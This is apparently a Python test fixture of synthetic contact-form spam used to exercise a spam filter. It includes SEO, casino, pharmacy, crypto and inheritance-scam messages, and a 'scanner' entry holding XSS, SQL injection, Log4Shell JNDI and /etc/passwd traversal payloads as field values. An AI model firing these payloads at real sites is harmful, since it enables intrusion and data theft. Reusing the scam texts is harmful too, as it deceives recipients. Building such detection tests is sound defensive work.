"""Spam as forms get it."""

from __future__ import annotations

from tests.corpus.spam.kinds import BROWSER, PLAIN, Kind, Request

NAMED = {"email": "{mail}", "first_name": "{first}", "last_name": "{last}"}
_SCRIPT = PLAIN._replace(language=False, page=False)

SPAM = (
    Kind(
        "search engine optimisation",
        NAMED
        | {
            "message": "Hi, I was on your website and found some errors on your website. We can get it on the first page of Google with quality backlinks. May I send you our SEO packages?"
        },
        _SCRIPT,
    ),
    Kind(
        "casino",
        {
            "email": "{mail}",
            "name": "{first}",
            "message": "Best online casino with free spins: https://{word}-casino.top/?r={digits} Register now and get 200 free spins!",
        },
        _SCRIPT,
    ),
    Kind(
        "pills",
        {
            "email": "{mail}",
            "name": "{first}",
            "message": '<a href="http://{word}.ru/">viagra</a> cialis without prescription [url=http://{word}.su]pharmacy[/url]',
        },
        PLAIN,
    ),
    Kind(
        "crypto",
        {
            "email": "{mail}",
            "name": "{first} {last}",
            "message": "Earn $ {digits} per day with bitcoin! Passive income, risk free: https://t.me/{word}bot",
        },
        _SCRIPT,
    ),
    Kind(
        "random letters",
        {
            "email": "{random}@gmail.com",
            "first_name": "{Random}",
            "last_name": "{Random}",
            "phone": "{digits}",
            "message": "{Random}",
        },
        _SCRIPT,
    ),
    Kind(
        "random name",
        {"email": "{mail}", "first_name": "{Random}xKqZ", "last_name": "{Random}BvT"},
        _SCRIPT._replace(fill_ms=(100, 700)),
    ),
    Kind(
        "one word everywhere",
        {
            "email": "{word}@yahoo.com",
            "first_name": "google",
            "last_name": "google",
            "phone": "google",
            "title": "google",
            "message": "google",
        },
        PLAIN,
    ),
    Kind(
        "link as a name",
        {"email": "{mail}", "first_name": "Win an iPhone www.{word}.xyz", "last_name": "{last}"},
        PLAIN,
    ),
    Kind(
        "scanner",
        {"email": "{mail}", "name": "{first}", "message": "x"},
        Request(None, False, False, None, "203.0.113.9"),
        variants=(
            {"email": "{mail}", "name": "<script>alert({digits})</script>"},
            {"email": "{mail}", "name": "{first}", "message": "1' or '1'='1' -- {digits}"},
            {"email": "{mail}", "name": "{first}", "message": "${{jndi:ldap://{word}.io/a}}"},
            {"email": "{mail}", "name": "{first}", "message": "../../../../etc/passwd"},
            {"email": "{mail}", "name": "{first}", "message": "-1 UNION ALL SELECT {digits},2,3"},
        ),
    ),
    Kind("honeypot", NAMED | {"_gotcha": "{word}", "message": "Hello, please answer"}, PLAIN),
    Kind(
        "same text from many",
        {
            "email": "{mail}",
            "name": "{first} {last}",
            "message": "Get a business loan at 2 % today. Reply for an offer: no obligation.",
        },
        _SCRIPT,
    ),
    Kind(
        "Cyrillic promotion",
        {
            "email": "{mail}",
            "name": "{first}",
            "message": "Продвижение сайтов в топ, раскрутка и рассылка по формам. Подробнее: https://{word}.ru",
        },
        _SCRIPT,
    ),
    Kind(
        "look-alike letters",
        {
            "email": "{mail}",
            "name": "Аnnа Веst",
            "message": "Неllo deаr, I wаnt to meet you, writе me",
        },
        PLAIN,
    ),
    Kind(
        "throwaway flood",
        {"email": "{word}@guerrillamail.com", "name": "{first}"},
        Request("python-requests/2.32.3", False, False, None, "203.0.113.77"),
    ),
    Kind(
        "many links",
        {
            "email": "{mail}",
            "name": "{first}",
            "message": "https://{word}.xyz https://{word}.shop http://{word}.top https://{word}.click",
        },
        PLAIN,
    ),
)
#: Not looked at while the signals were chosen.
SPAM_HELD_OUT = (
    Kind(
        "web design",
        NAMED
        | {
            "message": "Hello, I came across your website and noticed that the design is outdated. Our web design company can redesign your website at the best price, starting at $99. Shall I send a proposal? To opt out, reply STOP."
        },
        _SCRIPT,
    ),
    Kind(
        "guest post",
        NAMED
        | {
            "message": "Dear Sir, do you accept guest posts? We pay for a sponsored post with one do-follow link insertion to https://{word}.com and https://{word}.net. High domain authority."
        },
        _SCRIPT,
    ),
    Kind(
        "dating",
        {
            "email": "{mail}",
            "name": "{first}",
            "message": "Hot girls near you want dating tonight, click here http://bit.ly/{word}",
        },
        PLAIN,
    ),
    Kind(
        "inheritance",
        {
            "email": "{mail}",
            "name": "Barr. {first} {last}",
            "message": "I represent a deceased client who left 8.5 million dollars and no next of kin. I ask you to stand as the beneficiary. Whatsapp me.",
        },
        PLAIN,
    ),
    Kind(
        "list seller",
        NAMED
        | {
            "message": "We offer an email list of {digits} companies in your industry and bulk email sending. Special offer for this week. Unsubscribe: https://{word}.site/u"
        },
        _SCRIPT,
    ),
    Kind(
        "header forger",
        {"email": "{random}@outlook.com", "name": "{Random}"},
        BROWSER._replace(language=False, fill_ms=(50, 400)),
    ),
)
SPAM_BY_HAND = (
    {
        "email": "eric.jones@talkwithwebvisitor.com",
        "name": "Eric Jones",
        "message": "Hey there, I just found your site, quick question... visit https://talkwithwebvisitors.com click here to see it live. If you'd like to unsubscribe click here.",
    },
    {
        "email": "no-reply@tiktok.com",
        "name": "GregoryHefJQzKw",
        "message": "Hi! Send your offer through contact form submission to 2.7 million sites. https://t.me/FeedbackFormEU",
    },
    {
        "email": "h.o.w.i.e.l.e@gmail.com",
        "name": "RobertTed838",
        "message": "Заработок от 50000 в день http://dengi.top",
    },
    {"email": "m.a.r.k.u.s.d@gmail.com", "name": "Make money 24/7 http://cash.club"},
    {
        "email": "sam@moneymail.biz",
        "name": "Sam",
        "message": "You are selected for 1,5 million USD, beneficiary. Act now whatsapp me",
    },
    {
        "email": "anna@buyfollow.net",
        "name": "Anna",
        "message": "Get 10k instagram followers, best price, 100% guarantee https://fol.shop",
    },
    {"email": "test@test.com", "name": "test", "phone": "test", "title": "test", "message": "test"},
    {"email": "zqxjvkw@hotmail.com", "name": "QzXjVkWbTrL", "message": "QzXjVkWbTrL"},
    {
        "email": "lisa@rankfast.io",
        "name": "Lisa",
        "message": "I can rank on Google your site with 500 backlinks, cheap SEO service, limited time.",
    },
    {
        "email": "joe@vids.co",
        "name": "Joe",
        "message": "Explainer video for your business, special offer, buy now: https://vids.click/x",
    },
)
